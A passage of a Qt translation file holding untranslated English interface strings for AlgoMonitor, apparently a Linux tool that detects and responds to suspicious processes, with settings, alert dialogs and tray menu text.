<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE TS>
<TS version="2.1">
<context>
    <name>RuleTester</name>
    <message>
        <source>The test gave no answer.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>SettingsSchema</name>
    <message>
        <source>Mode</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>observe: only record. ask: suspend at once and ask. enforce: act at once.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Scope</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Only processes in this cgroup and below it are watched; / is the whole machine.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Time to answer</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>How long a suspended program waits for an answer.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Without an answer</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>What happens when nobody answers in time; configured is the rule&apos;s own response.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>When nobody is there</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>What happens when there is no unlocked desktop to ask on.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Log levels</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Which levels get a log file.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Learning period</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Collect what is new in silence for the first days. Behaviour is never silenced.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>days</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Length of the learning period</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>How long the learning period lasts after the first start.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Rules</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>For each rule: enabled, response, level.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Trust</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Programs and peers that the named rules leave alone.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Polling interval</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>How often /proc is read where the kernel does not tell of processes by itself.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Children</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>More children than this are unusual.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Sampling interval</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>How often the use of resources is measured.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>samples</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Samples looked back on</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Out of how many samples a trend is read.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Samples above the limit</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>So many samples above the limit are an anomaly, for every metric without its own count.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Processor limit</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Processor time of one program.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Processor: samples above the limit</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>So many samples above the limit are an anomaly.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Memory limit</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Memory of one program.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Memory: samples above the limit</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Disk operations limit</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reads and writes of one program in a second.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Threads</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>More threads than this in one program are unusual.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Open files</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>More open descriptors than this in one program are unusual.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Connections</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>More connections than this of one program are unusual.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Pressure limit</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Share of time in which programs wait for processor, memory or disk.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Baselines</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Learn what is usual for each program.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Baseline period</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Over how long a baseline is formed.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Baseline margin</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>How far above its baseline a program may go.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Memory dump on anomaly</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Save the memory of a program with an anomaly.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Dump directory</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Where dumps are kept.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Largest dump</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Programs larger than this are not dumped.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Room for dumps</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All dumps together; the oldest give way.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Disk space left alone</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No dump is written that would leave less free space.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Time between dumps</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>One program is dumped at most this often.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Dump command</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Program and arguments that write a dump; empty: the built-in way.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Terminate on anomaly</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>End a program with an anomaly.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Time to end by itself</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Between asking a program to end and killing it.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Allowed listeners</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Ports on which a new listener is not reported.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Feeds</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Lists of bad addresses and domains.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Length of a block</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>How long an address stays blocked.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Port scan: ports</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>So many ports tried within the window are a scan.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Port scan: window</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Within which the tried ports are counted.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Beacon</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>So many connections at regular intervals are a beacon.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Protected directories</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Whose files are watched for changes; * and ? match within a name.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Left out</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Paths below the protected directories that are not watched.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Verification interval</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>How often the protected files are compared with the baseline.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading speed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>How much is read from disk in a second while verifying.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Failed logins</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>So many failed logins within the window are an attack.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Failed logins: window</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Within which failed logins are counted.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Automatic kills</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Per user; beyond it suspects are suspended, never let go.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Log file size</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A larger log file is put aside and a new one begun.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Log files are kept</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Older log files are deleted.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Alerts are kept</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Older alerts are removed from the history.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Largest history</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Beyond this number the oldest alerts are removed.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Syslog</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Send alerts to a syslog server (RFC 5424).</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Syslog server</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>tcp://host:port</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Mail</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Send alerts by mail.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Recipients</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Who gets the mail.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Sender</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Address the mail comes from.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Subject</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Subject of the mail.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Mail server</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>smtp://host:port or smtps://host:port</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>STARTTLS</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Encrypt the connection to the mail server.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Mail user</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Name to log in to the mail server with.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Mail password file</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Root-only file whose first line is the password.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>app::BubbleText</name>
    <message>
        <source>%1 stopped</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1: %2 times</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 more alerts</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Suspended, waiting for you.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Suspended; now it is %1.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Suspended, waiting for you: in %1 s it is %2.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Click here to answer in AlgoMonitor.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Open AlgoMonitor to answer, or run: algomonitorctl alerts kill %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Click for details.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Open AlgoMonitor for details.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The last one: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Seen %1 times.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Your answer was not carried out: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Kill</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Allow once</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Always allow…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Details</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>AlgoMonitor</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Save memory</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Undo</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Not until tomorrow</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 alerts about others&apos; programs</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Not one of your programs: the details need a password.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>While you were away: %1 alerts</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Meanwhile: %1 alerts</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>app::ExportLink</name>
    <message>
        <source>Nothing to export: the alerts are gone.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 alerts saved as %2.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The alert is saved as %1.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>app::RuleTester</name>
    <message>
        <source>algomonitorctl, which tests rules, is not installed.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>app::TrayMenu</name>
    <message>
        <source>AlgoMonitor menu</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Looking for the helper…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Open AlgoMonitor</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Quit</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Mode</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;Pause responses</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>15 minutes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 hour</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Until restart (a day at most)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Respond again now</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>&amp;First steps…</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>app::VerbRunner</name>
    <message>
        <source>Terminated with everything it started.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Terminated.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Suspended.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Resumed.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Killed.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Allowed once.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Allowed from now on.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Marked as looked at.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Taken back.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Mode: %1.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Responding again.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Only observing for %1 minutes.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Trusted.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Trusted no longer.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Not allowed without the password. %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Not done: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Under way. %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Not done (%1). %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The connection is cut.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 is blocked.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 is no longer blocked.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Its memory is saved.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The dump is cancelled.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Protected files are being compared.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Comparing was stopped.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Accepted.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The rule is on.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The rule is off.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The rule&apos;s response is another one now.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The setting is saved and in force.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The rules were read again.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>app::WelcomeLink</name>
    <message>
        <source>This is how AlgoMonitor reaches you.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A notification should be on the screen now. If there is none, “Do not disturb” may be on: questions break through it.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>This desktop has no notification server: what happens is only seen in the window and at the shield.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The file that starts AlgoMonitor at login could not be written.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>app::client::HealthFeed</name>
    <message>
        <source>There is no system bus, so the helper cannot be asked anything.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>You may not look at this helper: this session is not active.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The helper is running but does not answer (%1). If it stays so: systemctl restart algo-monitor</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The helper is still version %1, this window is %2. Restart the helper: systemctl restart algo-monitor</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The helper is version %1, this window is still %2. Quit AlgoMonitor from its tray icon and start it again</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The helper is not running. Start it with: systemctl start algo-monitor</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::AlertDetails</name>
    <message>
        <source>Details of the alert</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Why</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Who started it</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Facts</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>What was done</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Command</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Executable</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Directory</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Package</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>SHA-256</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>User</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Connection</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Control group</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Evidence</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>This is not about one of your programs. Its command, files and connections are shown with an administrator&apos;s password.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Show the details…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Details are hidden</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::AlertExportButton</name>
    <message>
        <source>Export</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Save alerts as a file</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 alerts as JSON…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>JSON (*.json)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 alerts as CSV…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Table (*.csv)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>This alert, to report it…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Archive (*.tar)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 alert as JSON…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 alert as CSV…</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::AlertHeader</name>
    <message>
        <source>%1 times</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Kill</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Allow once</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Always allow…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Resolve</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Undo</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Suspended until you decide.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Save memory…</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::AlertPage</name>
    <message>
        <source>Which alerts</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>To look at</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Search</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Search alerts</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Alerts</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Kill</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Nothing found</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No alert matches. Search looks in the sentence, the program, its command, package, user and peer.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>You may not see the alerts</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No alerts to show</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the alerts…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No alerts</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Nothing dangerous has been seen. What is found will stand here, with what was done about it.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Kill %1?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The evidence is saved, then the process and everything below it is killed.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>What these programs have not saved is lost. This cannot be undone.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::AlertTableModel</name>
    <message>
        <source>Alert</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Level</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Process</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Raised</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>State</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::AlertText</name>
    <message>
        <source>Told you</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Suspended the processes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Let the processes run again</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Killed the process</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Killed the process and everything below it</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Allowed once</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Always allowed from now on</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Marked as looked at</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Taken back</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Saved the evidence</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Asked what to do</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Dropped the connection</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Blocked the address</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>killed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>killed with everything below it</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>allowed to go on</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>kept suspended</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Info</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Warning</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Alert</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Error</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>New</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Suspended</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Killed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Allowed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Resumed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Resolved</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Ended by itself</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Certain</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Likely</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>done</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>failed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>refused</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>not done</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Observe</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Ask</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Enforce</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Records what happens and stops nothing.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Suspends what is certainly dangerous and asks you.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Stops what is certainly dangerous at once, without asking.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unnamed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unknown</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 (only in memory)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 (deleted)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>user %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1, out to %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1, in from %2 to port %3</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 with %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Tell you</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Suspend the processes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Kill the process</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Kill the process and everything below it</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Allow once</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Always allow from now on</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Mark as looked at</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Take back</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Save the evidence</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Ask what to do</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Drop the connection</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Block the address</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Kept the processes suspended</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Keep the processes suspended</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>not yet</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::AlwaysAllowDialog</name>
    <message>
        <source>Always allow</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Always allow exactly this?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The rule “%1” stays silent when all the chosen conditions hold. The more are chosen, the less can hide behind them.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Your password is asked for. The entry can be taken back at any time.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cancel</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::AncestryView</name>
    <message>
        <source>not hashed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Process</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Executable</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Package</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>SHA-256</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Ancestry</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Who started whom, the first at the top</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
